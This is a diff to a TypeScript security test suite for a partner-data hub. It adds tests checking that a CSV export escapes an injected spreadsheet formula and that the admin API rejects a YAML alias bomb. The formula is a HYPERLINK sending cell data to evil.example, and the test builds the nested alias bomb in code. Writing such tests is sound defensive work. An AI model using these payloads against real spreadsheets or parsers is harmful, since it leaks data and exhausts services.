@@ -1,8 +1,9 @@
 /**
  * Issue 21, part 4 and its "Also" list, as an attacker would try them against a running hub
  * (NODE_ENV=production, the real broker and database): tokens that live for years or name their
- * partner in the wrong claim, people tokens signed with the shared API key, the token endpoint's
- * lockout, a malformed Basic header, and a flood of refused requests.
+ * partner in the wrong claim, people tokens signed with the shared API key, formulas in the
+ * privacy officer's CSV, the token endpoint's lockout, a malformed Basic header, a YAML alias
+ * bomb, and a flood of refused requests.
  */
 import * as http from 'node:http';
 import type { AddressInfo } from 'node:net';
@@ -16,6 +17,7 @@ import { testKeys } from '../support/test-env';
 const HUB_ISSUER = 'urn:ketenhub:hub';
 const HUB_AUDIENCE = 'urn:ketenhub:api';
 const TEN_YEARS = 10 * 365 * 86_400;
+const HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")';
 
 /** An external authorization server for partner tokens (OAUTH_ISSUER), served from this test. */
 async function externalPartnerIssuer(): Promise<{ issuer: string; jwksUrl: string; sign(claims: JWTPayload, exp: number, iat?: number): Promise<string>; close(): Promise<void> }> {
@@ -142,6 +144,18 @@ describe('who may get in (issue 21: tokens, people, the token endpoint, listener
     });
   });
 
+  it('escapes a formula that an attacker got into the trail when the privacy officer exports it as CSV', async () => {
+    const hostile = await partners.sign({ client_id: HOSTILE }, now() + 600, now());
+    expect((await get('/deliveries', hostile)).status).toBe(403);
+    const csv = await get('/privacy/disclosures?action=READ&format=csv&pageSize=1000', await person('PRIVACY_OFFICER', 'M. Bakker (FG)'));
+    expect(csv.status).toBe(200);
+    const text = await csv.text();
+    expect(text).toContain('HYPERLINK');
+    // No cell begins with =, +, - or @ (a spreadsheet would run it); the hostile one is prefixed with '.
+    expect(text).not.toMatch(/(^|,)"?[=+@-]/m);
+    expect(text).toContain(`"'${HOSTILE.replace(/"/g, '""')}"`);
+  });
+
   describe('the token endpoint', () => {
     it('locks out wrong secrets per client id and address: another partner behind the same address still gets its token', async () => {
       const url = scenario.hub.url;
@@ -163,6 +177,23 @@ describe('who may get in (issue 21: tokens, people, the token endpoint, listener
       expect(answer.status).toBe(400);
       expect(await answer.json()).toMatchObject({ error: 'invalid_request', error_description: expect.stringContaining('%') });
     });
+  });
+
+  it('answers a YAML alias bomb in the admin API with 422 and what is wrong, not 500', async () => {
+    const levels = ['a: &a ["x","x","x","x","x","x","x","x","x"]'];
+    for (let i = 1; i < 9; i++) {
+      const name = String.fromCharCode(97 + i);
+      const prev = String.fromCharCode(96 + i);
+      levels.push(`${name}: &${name} [${Array(9).fill(`*${prev}`).join(',')}]`);
+    }
+    const answer = await fetch(`${scenario.hub.url}/admin/config/validate`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json', authorization: `Bearer ${await person('INFORMATIEMANAGER', 'R. de Boer')}` },
+      body: JSON.stringify({ regionYaml: levels.join('\n') }),
+    });
+    expect(answer.status).toBe(422);
+    const body = (await answer.json()) as { problems: string[] };
+    expect(body.problems.join(' ')).toMatch(/alias/i);
   });
 
   it('counts refused requests against the partner\'s rate limit before auditing them, so a flood of 403s cannot fill the trail', async () => {
